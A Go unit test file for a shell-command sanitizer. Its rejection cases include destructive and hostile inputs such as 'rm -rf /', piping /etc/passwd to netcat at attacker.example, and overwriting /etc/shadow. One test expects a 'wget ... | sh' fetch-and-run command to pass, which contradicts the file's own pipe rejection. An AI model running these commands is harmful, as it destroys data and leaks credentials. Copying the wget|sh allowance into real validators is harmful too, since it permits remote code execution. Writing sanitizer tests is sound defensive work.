package cmdrun

import (
	"errors"
	"testing"
)

func TestSanitize_AllowListed(t *testing.T) {
	cases := []string{
		"sleep 1; date -Ins; sudo iw dev wlan0 link",
		"while true; do date -Ins; sudo iw dev wlan0 link; done",
		"git fetch && go build",
	}
	for _, cmd := range cases {
		if err := Sanitize(cmd); err != nil {
			t.Errorf("Sanitize(%q) = %v, want nil", cmd, err)
		}
	}
}

func TestSanitize_RejectsUnsafeSymbols(t *testing.T) {
	cases := []string{
		"ls ; rm -rf /",
		"cat /etc/passwd | nc attacker.example 4444",
		"echo hi > /etc/shadow",
		"echo hi < /dev/zero",
		"sleep 1 & kill -9 1",
	}
	for _, cmd := range cases {
		if err := Sanitize(cmd); !errors.Is(err, ErrUnsafeCommand) {
			t.Errorf("Sanitize(%q) = %v, want ErrUnsafeCommand", cmd, err)
		}
	}
}

func TestSanitize_WgetPipePrefix(t *testing.T) {
	cmd := "wget https://example.com/update.sh | sh"
	if err := Sanitize(cmd); err != nil {
		t.Errorf("Sanitize(%q) = %v, want nil", cmd, err)
	}
}
